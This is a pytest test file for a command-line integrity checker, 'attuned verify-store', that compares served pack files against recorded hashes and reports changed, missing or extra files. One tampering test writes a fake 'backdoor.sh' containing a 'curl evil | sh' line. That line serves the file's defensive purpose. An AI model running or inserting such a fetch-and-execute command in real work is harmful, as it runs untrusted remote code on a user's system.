"""`attuned verify-store` as an auditor runs it, with no daemon: packs registered for real
(through the registry, as the daemon does), then the served files changed behind attuned's
back (a byte flipped, a file added, a file deleted) and the command asked again; on SQLite and
PostgreSQL. Exit 0 all match, 1 a difference, 2 a configuration or database error.
"""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path
from typing import Any

import pytest
from alembic import command

from attuned.store.database import Database
from tests.cli.inprocess import run_attuned, subprocess_attuned
from tests.cli.test_history_cli import registry_of, write_config
from tests.conftest import PackFactory
from tests.test_registry import ACTION


def register(config: Path, *packs: Path) -> None:
    registry = registry_of(config)
    try:
        for pack in packs:
            registry.register(pack)
    finally:
        registry.close()


def served_dir(config: Path, ref: str) -> Path:
    return (config.parent / "state" / "packs" / ref).resolve()


def verify_store(
    config: Path, capsys: pytest.CaptureFixture[str], *flags: str
) -> tuple[int, str, str]:
    done = run_attuned(["verify-store", "--config", config, *flags], capsys)
    return done.returncode, done.stdout, done.stderr


def verify_json(config: Path, capsys: pytest.CaptureFixture[str], code: int) -> Any:
    got, out, err = verify_store(config, capsys, "--json")
    assert got == code, out + err
    return json.loads(out)


@pytest.fixture
def config(tmp_path: Path, db_url: str, make_pack: PackFactory) -> Path:
    """Two packs registered and served: hello (with an action) and world."""
    config = write_config(tmp_path, db_url)
    register(config, make_pack("hello", files=ACTION), make_pack("world"))
    return config


def test_the_recorded_hashes_are_the_served_files_and_verify_store_agrees(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    served = served_dir(config, "hello")
    shown = run_attuned(["show", "hello", "--provenance", "--json", "--config", config], capsys)
    assert shown.returncode == 0, shown.stderr
    recorded = json.loads(shown.stdout)["files"]
    on_disk = {
        Path(d, f).relative_to(served).as_posix(): hashlib.sha256(
            Path(d, f).read_bytes()
        ).hexdigest()
        for d, _dirs, files in os.walk(served)
        for f in files
    }
    assert recorded == on_disk

    code, out, err = verify_store(config, capsys)

    assert (code, err) == (0, "")
    assert out.splitlines() == [
        "hello 1.0.0: matches its provenance",
        "world 1.0.0: matches its provenance",
        "all 2 served packs match their provenance",
    ]
    answer = verify_json(config, capsys, 0)
    assert answer["matches"] is True
    assert [(p["pack"], p["matches"], p["differences"]) for p in answer["packs"]] == [
        ("hello", True, []),
        ("world", True, []),
    ]


def test_a_byte_changed_in_the_store_is_caught_naming_the_file(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    script = served_dir(config, "hello") / "actions/greet.sh"
    data = bytearray(script.read_bytes())
    data[0] ^= 0x01  # one bit of one byte
    script.chmod(0o644)
    script.write_bytes(bytes(data))

    code, out, _err = verify_store(config, capsys)

    assert code == 1
    lines = out.splitlines()
    assert lines[0] == f"hello 1.0.0: 1 difference in {served_dir(config, 'hello')}"
    assert lines[1:] == [
        "  changed: actions/greet.sh",
        "world 1.0.0: matches its provenance",
        "1 pack of 2 differ from their provenance",
    ]
    answer = verify_json(config, capsys, 1)
    assert answer["matches"] is False
    assert answer["packs"][0]["differences"] == ["changed: actions/greet.sh"]


def test_an_extra_and_a_deleted_file_are_reported(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    served = served_dir(config, "world")
    served.chmod(0o755)
    (served / "pack.yaml").unlink()
    (served / "backdoor.sh").write_text("curl evil | sh\n")

    answer = verify_json(config, capsys, 1)

    assert [(p["pack"], p["differences"]) for p in answer["packs"]] == [
        ("hello", []),
        ("world", ["missing: pack.yaml", "extra: backdoor.sh"]),
    ]


def test_a_changed_executable_bit_is_a_difference(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (served_dir(config, "hello") / "tests/run_tests.sh").chmod(0o644)

    answer = verify_json(config, capsys, 1)

    [difference] = answer["packs"][0]["differences"]
    assert difference.startswith("digest: served content is ")


def test_a_served_pack_without_a_record_is_a_difference(
    config: Path, capsys: pytest.CaptureFixture[str], db_url: str
) -> None:
    database = Database(db_url)
    try:
        with database.write() as session:
            session.connection().exec_driver_sql(
                f"DELETE FROM {'' if database.is_sqlite else 'attuned.'}activation_provenance"
            )
    finally:
        database.dispose()

    answer = verify_json(config, capsys, 1)

    assert {p["pack"]: p["differences"] for p in answer["packs"]} == {
        ref: ["no provenance record (activated before attuned recorded provenance?)"]
        for ref in ("hello", "world")
    }


def test_a_configuration_error_exits_2_in_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("state_dir: [not, a, path]\n")

    code, out, err = verify_store(bad, capsys)

    assert code == 2
    assert out == ""
    assert err.startswith("error:") and str(bad) in err and "Traceback" not in err


def test_a_schema_not_at_this_version_is_refused_not_migrated(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    url = f"sqlite:///{tmp_path / 'old.db'}"
    database = Database(url)
    try:
        database.migrate()
        with database.engine.begin() as connection:  # back to before provenance was recorded
            command.downgrade(database.alembic_config(connection), "0006")
        config = write_config(tmp_path, url)

        code, _out, err = verify_store(config, capsys)

        assert code == 2
        assert "at revision 0006, this attuned needs 0007; run `attuned db upgrade`" in err
        assert database.current_revision() == "0006"  # nothing was migrated
    finally:
        database.dispose()


def test_a_missing_sqlite_database_is_refused_and_not_created(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "nowhere" / "attuned.db"
    config = write_config(tmp_path, f"sqlite:///{missing}")

    code, _out, err = verify_store(config, capsys)

    assert code == 2
    assert err.strip() == f"error: {missing}: no such database (database.url in the config)"
    assert not missing.parent.exists()


def test_the_real_command_exits_1_on_drift(config: Path) -> None:
    (served_dir(config, "world") / "pack.yaml").chmod(0o644)
    (served_dir(config, "world") / "pack.yaml").write_text("ref: world\n")

    done = subprocess_attuned(["verify-store", "--config", config], cwd=config.parent)

    assert done.returncode == 1, done.stderr
    assert "  changed: pack.yaml" in done.stdout.splitlines()
